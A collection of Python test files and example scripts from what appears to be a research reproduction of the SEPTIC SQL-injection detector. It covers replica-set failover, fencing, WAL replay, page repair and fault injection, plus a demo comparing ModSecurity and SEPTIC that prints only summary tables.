        ticks_b = [replica_set.connect(seed=5)._next_backoff_ticks(n)
                   for n in range(1, 6)]
        ticks_c = [replica_set.connect(seed=6)._next_backoff_ticks(n)
                   for n in range(1, 6)]
        assert ticks_a == ticks_b
        assert ticks_a != ticks_c
        # bounded: between the pure-exponential base and base * 1.5, cap 16
        for attempt, ticks in enumerate(ticks_a, start=1):
            base = min(16, 2 ** (attempt - 1))
            assert base <= ticks <= max(1, round(base * 1.5))
        replica_set.close()


class TestVerdictsAreNotRetried(object):
    def test_septic_block_returns_immediately(self, tmp_path):
        replica_set = make_set(tmp_path)
        seed_rows(replica_set)
        router = replica_set.connect(retries=5)
        outcome = router.query("INSERT INTO items (name) VALUES ('evil')")
        assert isinstance(outcome.error, QueryBlocked)
        assert router.retry_stats.as_dict()["retries"] == 0
        replica_set.close()

    def test_sql_errors_return_immediately(self, tmp_path):
        replica_set = make_set(tmp_path)
        seed_rows(replica_set)
        router = replica_set.connect(retries=5)
        outcome = router.query("SELECT * FROM no_such_table")
        assert isinstance(outcome.error, ValidationError)
        assert router.retry_stats.as_dict()["retries"] == 0
        replica_set.close()


class TestFencedNodesNeverServeReads(object):
    def test_caught_up_zombie_is_skipped(self, tmp_path):
        """A fenced old primary can be fully caught up on LSN — it was
        the primary — and must still never serve a read: fencing means
        "not part of the set", not "stale"."""
        replica_set = make_set(tmp_path)
        seed_rows(replica_set)
        zombie = replica_set.primary
        replica_set.partition(zombie)
        replica_set.promote()
        assert zombie.role == Role.FENCED
        assert zombie.alive
        # an unbounded staleness allowance cannot exclude the zombie —
        # only the role filter can, and it must
        router = replica_set.connect(max_lag_lsn=10 ** 6)
        for _ in range(6):
            node = router.pick_node(True)
            assert node is not zombie
            assert node.role in (Role.REPLICA, Role.PRIMARY)
        assert router.pick_node(False) is replica_set.primary
        outcome = router.query_or_raise("SELECT COUNT(*) FROM items")
        assert outcome.rows[0][0] == 4
        replica_set.close()

    def test_detached_dead_node_is_skipped(self, tmp_path):
        replica_set = make_set(tmp_path)
        seed_rows(replica_set)
        dead = replica_set.kill_primary()
        replica_set.tick(replica_set.lease_ticks
                         + replica_set.heartbeat_interval)
        assert dead.role == Role.DETACHED
        router = replica_set.connect(max_lag_lsn=10 ** 6)
        for _ in range(4):
            assert router.pick_node(True) is not dead
        replica_set.close()


class TestFrontierSurvivesThePrimary(object):
    def test_never_shipped_replica_is_not_caught_up(self, tmp_path):
        """Killing the primary must not amnesia the frontier: a replica
        that never received a shipment is ``durable_lsn`` records
        behind, even though no live node remembers those commits."""
        replica_set = make_set(tmp_path, replicas=1)
        conn = Connection(replica_set.primary.database,
                          multi_statements=True)
        conn.query_or_raise(
            "CREATE TABLE items (id INT AUTO_INCREMENT PRIMARY KEY, "
            "name VARCHAR(30))")
        conn.query_or_raise("INSERT INTO items (name) VALUES ('only')")
        committed = replica_set.primary.database.durable_lsn
        assert committed > 0
        replica_set.kill_primary()  # nothing was ever shipped
        assert replica_set.frontier_lsn() == committed
        router = replica_set.connect(max_lag_lsn=0)
        # the empty replica may not serve a bounded-staleness read —
        # with the primary dead there is no eligible node at all
        assert router.pick_node(True) is None
        replica_set.close()

    def test_promotion_resets_the_timeline(self, tmp_path):
        replica_set = make_set(tmp_path, replicas=1)
        seed_rows(replica_set)  # ships, so the replica is caught up
        conn = Connection(replica_set.primary.database)
        conn.query_or_raise("INSERT INTO items (name) VALUES ('lost')")
        replica_set.kill_primary()  # the tail was never shipped
        survivor = replica_set.promote()
        # the winner's log is the new frontier: its own reads qualify
        # again even though the unshipped tail is gone
        assert replica_set.frontier_lsn() == survivor.database.durable_lsn
        router = replica_set.connect(max_lag_lsn=0)
        outcome = router.query_or_raise("SELECT COUNT(*) FROM items")
        assert outcome.rows[0][0] == 4
        replica_set.close()
