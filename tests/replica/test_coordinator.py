"""ReplicaSet behaviour: heartbeats, election, fencing, retention,
QM-store co-apply, and the replication fault sites."""

import pytest

from repro import faults
from repro.benchlab.crashsweep import MarkerSeptic, state_digest
from repro.core.septic import Mode, Septic
from repro.core.store import QMStore
from repro.faults.plan import FaultKind, FaultPlan, InjectedFault
from repro.replica import ReplicaSet, Role
from repro.sqldb.connection import Connection
from repro.sqldb.errors import QueryBlocked

from tests.core.test_store import qid_for


def make_set(tmp_path, **kwargs):
    kwargs.setdefault("replicas", 2)
    kwargs.setdefault("heartbeat_interval", 2)
    kwargs.setdefault("lease_intervals", 2)
    kwargs.setdefault("septic_factory", MarkerSeptic)
    return ReplicaSet(str(tmp_path / "set"), **kwargs)


def seed_rows(replica_set, count=4):
    conn = Connection(replica_set.primary.database, multi_statements=True)
    conn.query_or_raise(
        "CREATE TABLE items (id INT AUTO_INCREMENT PRIMARY KEY, "
        "name VARCHAR(30))")
    for index in range(count):
        conn.query_or_raise(
            "INSERT INTO items (name) VALUES ('row%d')" % index)
    return conn


class TestHeartbeatsAndShipping(object):
    def test_heartbeat_rounds_converge_the_set(self, tmp_path):
        replica_set = make_set(tmp_path)
        seed_rows(replica_set)
        replica_set.tick(2 * replica_set.heartbeat_interval)
        golden = state_digest(replica_set.primary.database)
        for node in replica_set.replicas():
            assert node.applied_lsn == replica_set.frontier_lsn()
            assert state_digest(node.database) == golden
            assert node.heartbeats_received > 0
        # a healthy primary never triggers an election
        replica_set.tick(10 * replica_set.lease_ticks)
        assert replica_set.promotions == 0
        replica_set.close()

    def test_septic_blocked_statement_never_replicates(self, tmp_path):
        replica_set = make_set(tmp_path)
        conn = seed_rows(replica_set)
        with pytest.raises(QueryBlocked):
            conn.query_or_raise(
                "INSERT INTO items (name) VALUES ('evil')")
        replica_set.tick(2 * replica_set.heartbeat_interval)
        for node in replica_set.replicas():
            names = [row.get("name")
                     for row in node.database.tables["items"].rows]
            assert "evil" not in names
        replica_set.close()

    def test_qm_store_co_applies_to_replicas(self, tmp_path):
        replica_set = make_set(
            tmp_path,
            septic_factory=lambda: Septic(mode=Mode.PREVENTION,
                                          store=QMStore()))
        qid, model = qid_for("SELECT a FROM t WHERE a = ?")
        replica_set.primary.database.septic.store.put(qid, model)
        replica_set.ship()
        for node in replica_set.replicas():
            assert node.store_syncs == 1
            assert len(node.database.septic.store) == 1
            assert qid.value in node.database.septic.store.ids()
        # unchanged store does not re-ship
        replica_set.ship()
        for node in replica_set.replicas():
            assert node.store_syncs == 1
        replica_set.close()


class TestElection(object):
    def test_lease_expiry_promotes_max_applied_lsn(self, tmp_path):
        replica_set = make_set(tmp_path)
        seed_rows(replica_set, count=2)
        replica_set.tick(replica_set.heartbeat_interval)
        # node2 stops receiving; node1 keeps up
        lagger = replica_set.node("node2")
        replica_set.partition(lagger)
        conn = Connection(replica_set.primary.database)
        for index in range(3):
            conn.query_or_raise(
                "INSERT INTO items (name) VALUES ('late%d')" % index)
        replica_set.ship()
        assert (replica_set.node("node1").applied_lsn
                > lagger.applied_lsn)
        replica_set.kill_primary()
        replica_set.tick(replica_set.lease_ticks
                         + replica_set.heartbeat_interval)
        assert replica_set.promotions == 1
        assert replica_set.primary is replica_set.node("node1")
        assert replica_set.epoch == 2
        assert replica_set.node("node0").role == Role.DETACHED
        replica_set.close()

    def test_fenced_zombie_records_are_rejected(self, tmp_path):
        replica_set = make_set(tmp_path)
        seed_rows(replica_set)
        replica_set.tick(replica_set.heartbeat_interval)
        zombie = replica_set.primary
        replica_set.partition(zombie)
        replica_set.tick(replica_set.lease_ticks
                         + replica_set.heartbeat_interval)
        assert replica_set.promotions == 1
        assert zombie.role == Role.FENCED
        survivor = replica_set.replicas()[0]
        # let the new primary's epoch reach the survivor
        replica_set.tick(replica_set.heartbeat_interval)
        assert survivor.epoch == replica_set.epoch
        before = state_digest(survivor.database)
        # the deposed primary keeps committing, unaware
        Connection(zombie.database).query_or_raise(
            "INSERT INTO items (name) VALUES ('from-the-grave')")
        rejected_before = survivor.fenced_batches
        replica_set.ship(source=zombie)
        assert survivor.fenced_batches == rejected_before + 1
        assert state_digest(survivor.database) == before
        replica_set.close()

    def test_promotion_discards_in_flight_transactions(self, tmp_path):
        replica_set = make_set(tmp_path)
        conn = seed_rows(replica_set)
        conn.query_or_raise("BEGIN")
        conn.query_or_raise("INSERT INTO items (name) VALUES ('ghost')")
        replica_set.ship()  # BEGIN + statement ship; COMMIT never will
        survivor = replica_set.node("node1")
        assert survivor.applier.in_flight == 1
        replica_set.kill_primary()
        replica_set.tick(replica_set.lease_ticks
                         + replica_set.heartbeat_interval)
        assert replica_set.primary is not None
        new_primary = replica_set.primary
        assert new_primary.applier.in_flight == 0
        names = [row.get("name")
                 for row in new_primary.database.tables["items"].rows]
        assert "ghost" not in names
        replica_set.close()


class TestRetention(object):
    def test_checkpoint_waits_for_slowest_replica(self, tmp_path):
        replica_set = make_set(tmp_path)
        seed_rows(replica_set)
        primary_db = replica_set.primary.database
        # replicas have seen nothing yet: rotation must hold
        assert primary_db.checkpoint() is None
        assert primary_db.checkpoints_deferred == 1
        replica_set.tick(2 * replica_set.heartbeat_interval)
        # everyone caught up: rotation may proceed
        assert primary_db.checkpoint() is not None
        assert primary_db.checkpoints_deferred == 1
        replica_set.close()

    def test_replication_lag_escape_hatch_drops_the_replica(self, tmp_path):
        replica_set = make_set(tmp_path, max_retention_lag=3)
        seed_rows(replica_set)
        replica_set.tick(replica_set.heartbeat_interval)
        lagger = replica_set.node("node2")
        replica_set.partition(lagger)
        conn = Connection(replica_set.primary.database)
        for index in range(6):  # push the lag past the threshold
            conn.query_or_raise(
                "INSERT INTO items (name) VALUES ('more%d')" % index)
        replica_set.ship()
        primary_db = replica_set.primary.database
        assert primary_db.checkpoint() is not None
        assert lagger.role == Role.DETACHED
        assert replica_set.replication_lag_drops == 1
        assert any(kind == "replication_lag"
                   for _tick, kind, _detail in replica_set.events)
        # the healthy replica still replicates
        assert replica_set.node("node1") in replica_set.replicas()
        replica_set.close()


class TestFaultSites(object):
    def test_lost_heartbeats_eventually_elect(self, tmp_path):
        replica_set = make_set(tmp_path)
        seed_rows(replica_set)
        replica_set.tick(replica_set.heartbeat_interval)
        plan = FaultPlan()
        plan.inject("replica.heartbeat", FaultKind.RAISE)
        with faults.armed(plan):
            replica_set.tick(replica_set.lease_ticks
                             + replica_set.heartbeat_interval)
        assert replica_set.missed_heartbeats > 0
        # silence long enough always elects (and keeps electing while
        # every new primary's beats are lost too)
        assert replica_set.promotions >= 1
        # the first deposed primary is fenced, not dead
        assert replica_set.node("node0").role == Role.FENCED
        # once beats flow again the regime is stable
        settled = replica_set.promotions
        replica_set.tick(4 * replica_set.lease_ticks)
        assert replica_set.promotions == settled
        replica_set.close()

    def test_corrupt_shipment_is_rejected_then_reshipped(self, tmp_path):
        replica_set = make_set(tmp_path, replicas=1)
        seed_rows(replica_set)
        replica = replica_set.node("node1")
        plan = FaultPlan()
        plan.inject("replica.ship", FaultKind.CORRUPT, times=1)
        with faults.armed(plan):
            replica_set.ship()
        assert replica.corrupt_rejects >= 1
        stalled = replica.applied_lsn
        assert stalled < replica_set.frontier_lsn()
        # clean re-ship delivers the suffix
        replica_set.ship()
        assert replica.applied_lsn == replica_set.frontier_lsn()
        assert (state_digest(replica.database)
                == state_digest(replica_set.primary.database))
        replica_set.close()

    def test_apply_fault_propagates(self, tmp_path):
        replica_set = make_set(tmp_path, replicas=1)
        seed_rows(replica_set)
        plan = FaultPlan()
        plan.inject("replica.apply", FaultKind.RAISE, times=1)
        with faults.armed(plan):
            with pytest.raises(InjectedFault):
                replica_set.ship()
        # the record never entered the replica's log: clean re-ship works
        replica_set.ship()
        assert (replica_set.node("node1").applied_lsn
                == replica_set.frontier_lsn())
        replica_set.close()

    def test_promote_fault_retries_next_round(self, tmp_path):
        replica_set = make_set(tmp_path)
        seed_rows(replica_set)
        replica_set.tick(replica_set.heartbeat_interval)
        replica_set.kill_primary()
        plan = FaultPlan()
        plan.inject("replica.promote", FaultKind.RAISE, times=1)
        with faults.armed(plan):
            replica_set.tick(replica_set.lease_ticks
                             + replica_set.heartbeat_interval)
        assert any(kind == "promote_faulted"
                   for _tick, kind, _detail in replica_set.events)
        # fault exhausted: the very next rounds elect
        replica_set.tick(2 * replica_set.heartbeat_interval)
        assert replica_set.promotions == 1
        replica_set.close()


class TestNodeLifecycle(object):
    def test_crashed_replica_restarts_and_catches_up(self, tmp_path):
        replica_set = make_set(tmp_path)
        conn = seed_rows(replica_set)
        replica_set.tick(replica_set.heartbeat_interval)
        replica = replica_set.node("node2")
        replica.crash()
        for index in range(3):
            conn.query_or_raise(
                "INSERT INTO items (name) VALUES ('while-down%d')" % index)
        replica_set.tick(replica_set.heartbeat_interval)
        assert replica.applied_lsn < replica_set.frontier_lsn()
        replica.restart()
        replica_set.tick(replica_set.heartbeat_interval)
        assert replica.applied_lsn == replica_set.frontier_lsn()
        assert (state_digest(replica.database)
                == state_digest(replica_set.primary.database))
        replica_set.close()

    def test_status_reports_roles_and_lag(self, tmp_path):
        replica_set = make_set(tmp_path)
        seed_rows(replica_set)
        status = replica_set.status()
        assert status["frontier_lsn"] > 0
        by_name = {row["name"]: row for row in status["nodes"]}
        assert by_name["node0"]["role"] == Role.PRIMARY
        assert by_name["node0"]["lag"] == 0
        assert by_name["node1"]["lag"] == status["frontier_lsn"]
        replica_set.tick(replica_set.heartbeat_interval)
        status = replica_set.status()
        assert all(row["lag"] == 0 for row in status["nodes"])
        replica_set.close()
