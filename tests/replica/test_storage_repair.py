"""Replica-fed page repair: a caught-up replica is the scrubber's last
repair source for a primary running paged storage."""

from repro.benchlab.crashsweep import MarkerSeptic, state_digest
from repro.replica import ReplicaSet
from repro.sqldb import pager as pager_mod
from repro.sqldb.connection import Connection


def make_set(tmp_path, **kwargs):
    kwargs.setdefault("replicas", 2)
    kwargs.setdefault("heartbeat_interval", 2)
    kwargs.setdefault("septic_factory", MarkerSeptic)
    kwargs.setdefault("storage", "paged")
    return ReplicaSet(str(tmp_path / "set"), **kwargs)


def seed_rows(replica_set, count=30):
    conn = Connection(replica_set.primary.database, multi_statements=True)
    conn.query_or_raise(
        "CREATE TABLE items (id INT AUTO_INCREMENT PRIMARY KEY, "
        "name VARCHAR(30))")
    for index in range(count):
        conn.query_or_raise(
            "INSERT INTO items (name) VALUES ('row%d')" % index)
    return conn


def scrub_full_pass(database):
    scrubber = database.page_store.scrubber
    pages = max(1, len(scrubber._scan_list))
    return database.scrub(-(-pages // scrubber.pages_per_tick))


def break_local_sources(replica_set, database, page_no):
    """Corrupt *page_no* and disable doublewrite, clean-frame and local
    WAL-redo repair, leaving the replica fleet as the only source."""
    data_dir = database.data_dir
    pager_mod.flip_page_bit(data_dir, page_no, 444,
                            page_size=database.page_store.pager.page_size)
    with open(pager_mod.doublewrite_path(data_dir), "r+b") as handle:
        handle.truncate(0)
    database.page_store.pool.drop(page_no)
    database.page_store.scrubber.redo_source = None


class TestReplicaFedRepair(object):
    def test_caught_up_replica_refeeds_a_corrupt_table(self, tmp_path):
        replica_set = make_set(tmp_path)
        replica_set.register_storage_repair()
        seed_rows(replica_set)
        primary = replica_set.primary.database
        # replicas must catch up first: a retention pin defers the
        # checkpoint (and the scrubber's scan set rides on it)
        replica_set.tick(2 * replica_set.heartbeat_interval)
        assert primary.checkpoint() is not None
        replica_set.tick(2 * replica_set.heartbeat_interval)
        golden = state_digest(primary)

        page_no = sorted(primary.tables["items"].pages())[0]
        break_local_sources(replica_set, primary, page_no)
        assert scrub_full_pass(primary) == 1

        stats = primary.storage_stats()["scrubber"]
        assert stats["repairs_by_source"].get("replica") == 1
        assert stats["quarantined"] == 0
        assert state_digest(primary) == golden
        assert any(kind == "storage_repair"
                   for _tick, kind, _detail in replica_set.events)
        replica_set.close()

    def test_lagging_replicas_never_feed_a_repair(self, tmp_path):
        """A replica behind the primary's durable frontier must be
        rejected — re-feeding stale rows would roll the table back."""
        replica_set = make_set(tmp_path)
        replica_set.register_storage_repair()
        conn = seed_rows(replica_set)
        primary = replica_set.primary.database
        replica_set.tick(2 * replica_set.heartbeat_interval)
        assert primary.checkpoint() is not None
        # commits the replicas have NOT seen: they now trail the
        # primary's durable frontier
        conn.query_or_raise("INSERT INTO items (name) VALUES ('late')")
        golden = state_digest(primary)
        page_no = sorted(primary.tables["items"].pages())[0]
        break_local_sources(replica_set, primary, page_no)
        scrub_full_pass(primary)

        stats = primary.storage_stats()["scrubber"]
        assert stats["repairs_by_source"] == {}
        assert stats["quarantined"] == 1, \
            "an unrepairable page must stay quarantined, not be " \
            "papered over from a stale replica"
        # after catch-up the next pass repairs it (a re-detection does
        # not count as new, hence 0)
        replica_set.tick(2 * replica_set.heartbeat_interval)
        assert scrub_full_pass(primary) == 0
        stats = primary.storage_stats()["scrubber"]
        assert stats["repairs_by_source"].get("replica") == 1
        assert stats["quarantined"] == 0
        assert state_digest(primary) == golden
        replica_set.close()

    def test_replicas_stay_in_memory(self, tmp_path):
        """Only the primary runs paged storage; replicas rebuild from
        shipped WAL and keep the in-memory backend."""
        replica_set = make_set(tmp_path)
        assert replica_set.primary.database.page_store is not None
        for node in replica_set.replicas():
            assert node.database.page_store is None
        replica_set.close()
