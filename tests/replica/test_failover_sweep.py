"""The kill-the-primary-at-every-commit sweep, as a test (the full
three-seed version also runs as benchmark E17)."""

import pytest

from repro.benchlab.crashsweep import (format_failover_result,
                                       run_failover_sweep)


@pytest.mark.parametrize("seed", [1, 2, 3])
def test_failover_sweep_loses_nothing(tmp_path, seed):
    result = run_failover_sweep(str(tmp_path), seed)
    assert result.commit_points > 10
    assert result.blocked >= 1  # the SEPTIC-blocked write ran
    assert result.ok, format_failover_result(result)
