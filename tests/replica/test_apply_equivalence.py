"""Satellite property: streaming apply == batch recovery.

For any prefix of shipped records, a replica that ingested them through
:class:`ReplicaApplier` must hold exactly the state that
``Database.recover()`` produces over the same WAL byte prefix — the
streaming apply loop and the crash-recovery replay are the same
semantics delivered two ways.
"""

import os
import shutil

import pytest

from repro.benchlab.crashsweep import run_workload, state_digest
from repro.replica import ReplicaApplier
from repro.sqldb import wal as wal_mod
from repro.sqldb.engine import Database


@pytest.mark.parametrize("seed", [1, 2])
def test_every_record_prefix_matches_batch_recovery(tmp_path, seed):
    golden_dir = str(tmp_path / "golden")
    run = run_workload(golden_dir, seed)
    data = wal_mod.read_log_bytes(wal_mod.log_path(golden_dir))
    frames = list(wal_mod.iter_frames(data))
    assert frames, "workload produced no WAL records"

    replica = Database.recover(str(tmp_path / "replica"), seed=seed)
    applier = ReplicaApplier(replica)
    victim_dir = str(tmp_path / "victim")
    for record, end in frames:
        assert applier.offer(record)
        shutil.rmtree(victim_dir, ignore_errors=True)
        os.makedirs(victim_dir)
        wal_mod.write_log_bytes(wal_mod.log_path(victim_dir), data[:end])
        recovered = Database.recover(victim_dir, seed=seed)
        assert state_digest(replica) == state_digest(recovered), (
            "streaming apply diverged from batch recovery at LSN %d"
            % record.lsn)
        recovered.close()
    assert state_digest(replica) == run.digests[-1]
    replica.close()


@pytest.mark.parametrize("seed", [1, 2, 3])
def test_applied_digest_sequence_equals_golden_run(tmp_path, seed):
    """The replica walks through *exactly* the states a client could
    have been acknowledged about — one digest per durability point, in
    order, nothing extra, nothing skipped."""
    golden_dir = str(tmp_path / "golden")
    run = run_workload(golden_dir, seed)
    data = wal_mod.read_log_bytes(wal_mod.log_path(golden_dir))

    replica = Database.recover(str(tmp_path / "replica"), seed=seed)
    applier = ReplicaApplier(replica)
    seen = [state_digest(replica)]
    for record, _end in wal_mod.iter_frames(data):
        before = applier.applied_lsn
        applier.offer(record)
        if applier.applied_lsn > before:
            seen.append(state_digest(replica))
    assert seen == run.digests
    replica.close()


def test_duplicates_and_gaps(tmp_path):
    golden_dir = str(tmp_path / "golden")
    run_workload(golden_dir, seed=1)
    data = wal_mod.read_log_bytes(wal_mod.log_path(golden_dir))
    records = [record for record, _end in wal_mod.iter_frames(data)]

    replica = Database.recover(str(tmp_path / "replica"), seed=1)
    applier = ReplicaApplier(replica)
    assert applier.offer(records[0])
    # re-shipped duplicates are idempotent
    assert not applier.offer(records[0])
    assert applier.duplicates_skipped == 1
    digest = state_digest(replica)
    # a gap is a hard error, never silent divergence
    from repro.sqldb.errors import WalError
    with pytest.raises(WalError):
        applier.offer(records[2])
    assert state_digest(replica) == digest
    replica.close()


def test_replica_crash_restart_resumes_mid_transaction(tmp_path):
    """Log-before-apply: a replica that dies with a transaction half
    shipped restarts through ordinary recovery and still commits it
    when the COMMIT record arrives."""
    primary = Database.recover(str(tmp_path / "primary"), seed=1)
    from repro.sqldb.connection import Connection
    conn = Connection(primary, multi_statements=True)
    conn.query_or_raise("CREATE TABLE t (a INT)")
    conn.query_or_raise("BEGIN")
    conn.query_or_raise("INSERT INTO t (a) VALUES (1)")
    conn.query_or_raise("INSERT INTO t (a) VALUES (2)")
    conn.query_or_raise("COMMIT")
    data = wal_mod.read_log_bytes(wal_mod.log_path(primary.data_dir))
    records = [record for record, _end in wal_mod.iter_frames(data)]
    # CREATE, BEGIN, 2x INSERT, COMMIT
    assert len(records) == 5

    replica = Database.recover(str(tmp_path / "replica"), seed=1)
    applier = ReplicaApplier(replica)
    for record in records[:4]:  # everything but the COMMIT
        applier.offer(record)
    assert applier.in_flight == 1
    assert len(replica.tables["t"].rows) == 0  # uncommitted: not applied

    # crash-restart: reopen + resync rebuilds the buffered transaction
    replica.reopen()
    applier.resync()
    assert applier.in_flight == 1
    assert applier.last_seen_lsn == records[3].lsn
    assert len(replica.tables["t"].rows) == 0

    applier.offer(records[4])
    assert applier.in_flight == 0
    assert len(replica.tables["t"].rows) == 2
    assert state_digest(replica) == state_digest(primary)
    primary.close()
    replica.close()
