"""Unit tests for the fault-injection plan (repro.faults)."""

import pytest

from repro import faults
from repro.core.query_model import QueryModel
from repro.core.query_structure import QueryStructure
from repro.core.resilience import HOOK_CLOCK
from repro.faults import FaultKind, FaultPlan, InjectedFault
from repro.sqldb.errors import SQLError
from repro.sqldb.items import Item


def _model():
    structure = QueryStructure([
        Item("SELECT", "SELECT"), Item("FIELD", "id"),
        Item("TABLE", "tickets"), Item("DATA_STRING", "abc"),
    ])
    return QueryModel.from_structure(structure)


class TestFaultSpec(object):
    def test_unknown_kind_rejected(self):
        with pytest.raises(ValueError):
            FaultPlan().inject("store.get", "explode")

    def test_raise_fires_every_hit_by_default(self):
        plan = FaultPlan()
        spec = plan.inject("store.get", FaultKind.RAISE)
        for _ in range(3):
            with pytest.raises(InjectedFault):
                plan.fire("store.get")
        assert spec.hits == 3 and spec.fired == 3
        assert plan.injected == 3

    def test_injected_fault_is_not_an_sql_error(self):
        # the point of the exercise: a fault the code did not anticipate
        assert not issubclass(InjectedFault, SQLError)

    def test_times_window(self):
        plan = FaultPlan()
        plan.inject("store.get", FaultKind.RAISE, times=2)
        with pytest.raises(InjectedFault):
            plan.fire("store.get")
        with pytest.raises(InjectedFault):
            plan.fire("store.get")
        assert plan.fire("store.get", "payload") == "payload"

    def test_after_skips_leading_hits(self):
        plan = FaultPlan()
        plan.inject("store.get", FaultKind.RAISE, after=2, times=1)
        assert plan.fire("store.get", 1) == 1
        assert plan.fire("store.get", 2) == 2
        with pytest.raises(InjectedFault):
            plan.fire("store.get")
        assert plan.fire("store.get", 3) == 3

    def test_flaky_fails_then_succeeds_forever(self):
        plan = FaultPlan()
        spec = plan.inject("store.put", FaultKind.FLAKY, fails=2)
        for _ in range(2):
            with pytest.raises(InjectedFault):
                plan.fire("store.put")
        for _ in range(10):
            assert plan.fire("store.put", "ok") == "ok"
        assert spec.fired == 2

    def test_hang_charges_the_virtual_clock(self):
        plan = FaultPlan()
        plan.inject("detector.run", FaultKind.HANG, hang_seconds=7.5)
        before = HOOK_CLOCK.now()
        assert plan.fire("detector.run", "p") == "p"
        assert HOOK_CLOCK.now() == pytest.approx(before + 7.5)

    def test_corrupt_applies_seeded_corruptor(self):
        model_a = _model()
        model_b = _model()
        plan_a = FaultPlan(seed=42)
        plan_a.inject("store.get", FaultKind.CORRUPT)
        plan_b = FaultPlan(seed=42)
        plan_b.inject("store.get", FaultKind.CORRUPT)
        out_a = plan_a.fire("store.get", model_a, faults.corrupt_model)
        out_b = plan_b.fire("store.get", model_b, faults.corrupt_model)
        # same seed, same corruption — chaos runs are reproducible
        assert out_a.canonical() == out_b.canonical()
        assert out_a.canonical() != _model().canonical()

    def test_corrupt_without_corruptor_is_not_counted(self):
        plan = FaultPlan()
        spec = plan.inject("executor.step", FaultKind.CORRUPT)
        assert plan.fire("executor.step") is None  # payload passthrough
        assert spec.hits == 1 and spec.fired == 0
        assert plan.injected == 0

    def test_first_matching_spec_wins(self):
        plan = FaultPlan()
        first = plan.inject("store.get", FaultKind.RAISE, times=1)
        second = plan.inject("store.get", FaultKind.RAISE)
        with pytest.raises(InjectedFault):
            plan.fire("store.get")
        assert first.fired == 1 and second.fired == 0

    def test_hits_by_site_counts_every_fire(self):
        plan = FaultPlan()
        plan.fire("store.get")
        plan.fire("store.get")
        plan.fire("cache.lookup")
        assert plan.hits_by_site == {"store.get": 2, "cache.lookup": 1}


class TestArming(object):
    def test_disarmed_fire_is_passthrough(self):
        faults.disarm()
        assert faults.ACTIVE is None
        assert faults.fire("store.get", "payload") == "payload"

    def test_armed_context_manager_always_disarms(self):
        plan = FaultPlan()
        plan.inject("store.get", FaultKind.RAISE)
        with pytest.raises(InjectedFault):
            with faults.armed(plan):
                assert faults.ACTIVE is plan
                faults.fire("store.get")
        assert faults.ACTIVE is None

    def test_truncate_model_drops_top_node(self):
        model = _model()
        nodes = len(model.nodes)
        faults.truncate_model(model, None)
        assert len(model.nodes) == nodes - 1

    def test_forget_loses_the_payload(self):
        assert faults.forget("anything", None) is None
