"""The five-phase demonstration (paper §IV) against WaspMon.

Phase A — attacks with sanitization-function protection only;
Phase B — the same attacks with ModSecurity enabled;
Phase C — training SEPTIC through the application forms;
Phase D — SEPTIC in prevention mode (attacks blocked, benign passes);
Phase E — ModSecurity versus SEPTIC, side by side.

Run:  python examples/waspmon_demo.py
"""

from repro.attacks import (
    benign_cases,
    build_scenario,
    run_case,
    waspmon_attacks,
)
from repro.core import SepticTrainer


def banner(title):
    print("\n" + "=" * 72)
    print(title)
    print("=" * 72)


def run_phase(scenario, label):
    outcomes = [
        run_case(scenario.server, scenario.app, case)
        for case in waspmon_attacks()
    ]
    print("%-28s %-10s %-12s %-14s" % ("attack", "success", "waf", "septic"))
    for o in outcomes:
        print("%-28s %-10s %-12s %-14s" % (
            o.case.name,
            "YES" if o.succeeded else "-",
            "BLOCKED" if o.waf_blocked else "-",
            "BLOCKED" if o.septic_blocked else "-",
        ))
    succeeded = sum(1 for o in outcomes if o.succeeded)
    print("\n[%s] attacks succeeded: %d / %d" % (label, succeeded,
                                                 len(outcomes)))
    return outcomes


def main():
    banner("Phase A — sanitization functions only (no external protection)")
    print("Every WaspMon entry point is sanitized with PHP functions\n"
          "(mysql_real_escape_string / intval / addslashes) — and still:")
    phase_a = run_phase(build_scenario("none"), "phase A")

    banner("Phase B — ModSecurity (OWASP CRS-style rules, PL1) enabled")
    scenario_b = build_scenario("modsec")
    phase_b = run_phase(scenario_b, "phase B")
    print("\nModSecurity audit log (blocked requests):")
    for request, verdict in scenario_b.waf.audit_log[:10]:
        print("  %s %s -> rules %s (score %d)" % (
            request.method, request.path, verdict.rule_ids, verdict.score))

    banner("Phase C — training SEPTIC")
    scenario_d = build_scenario("septic", training_passes=0,
                                verbose_log=True)
    trainer = SepticTrainer(scenario_d.app, scenario_d.septic)
    scenario_d.septic.mode = "TRAINING"
    report = trainer.train(passes=1)
    print("crawler pass 1:", report)
    report2 = trainer.train(passes=1)
    print("crawler pass 2:", report2,
          "(a query processed twice creates its model only once)")
    print("query models in the learned store:",
          len(scenario_d.septic.store))

    banner("Phase D — SEPTIC in prevention mode")
    scenario_d.septic.mode = "PREVENTION"
    phase_d = run_phase(scenario_d, "phase D")
    print("\nfalse-positive check over benign traffic:")
    failures = 0
    for case in benign_cases(scenario_d.app):
        outcome = run_case(scenario_d.server, scenario_d.app, case)
        if outcome.septic_blocked or not outcome.succeeded:
            failures += 1
            print("  FP:", outcome)
    print("  benign requests flagged: %d (no false positives)" % failures)
    print("\nSEPTIC events display (last 12):")
    for event in scenario_d.septic.logger.events[-12:]:
        print(" ", event.format()[:110])

    banner("Phase E — ModSecurity versus SEPTIC")
    rows = []
    blocked_b = {o.case.name: o.waf_blocked for o in phase_b}
    blocked_d = {o.case.name: o.septic_blocked for o in phase_d}
    success_a = {o.case.name: o.succeeded for o in phase_a}
    print("%-28s %-12s %-12s %-10s" % ("attack", "ModSecurity", "SEPTIC",
                                       "unprotected"))
    for case in waspmon_attacks():
        rows.append(case.name)
        print("%-28s %-12s %-12s %-10s" % (
            case.name,
            "blocked" if blocked_b[case.name] else "MISSED",
            "blocked" if blocked_d[case.name] else (
                "n/a" if not success_a[case.name] else "MISSED"),
            "pwned" if success_a[case.name] else "self-defeats",
        ))
    missed_waf = sum(
        1 for name in rows if not blocked_b[name] and success_a[name]
    )
    missed_septic = sum(
        1 for name in rows if not blocked_d[name] and success_a[name]
    )
    print("\nfalse negatives on viable attacks: ModSecurity=%d, SEPTIC=%d"
          % (missed_waf, missed_septic))


if __name__ == "__main__":
    main()
