"""A quick Figure-5-style overhead measurement (small configuration).

The full experiment lives in ``benchmarks/bench_fig5_overhead.py``; this
example runs a reduced version (1 machine, 2 browsers, 3 loops) so you
can watch the moving parts in a few seconds.

Run:  python examples/benchlab_overhead.py
"""

from repro.apps import Refbase
from repro.benchlab import run_benchlab, run_scaling_experiment


def main():
    print("SEPTIC overhead on the refbase workload "
          "(1 machine x 2 browsers x 3 loops)\n")
    baseline = run_benchlab(Refbase, None, machines=1,
                            browsers_per_machine=2, loops=3)
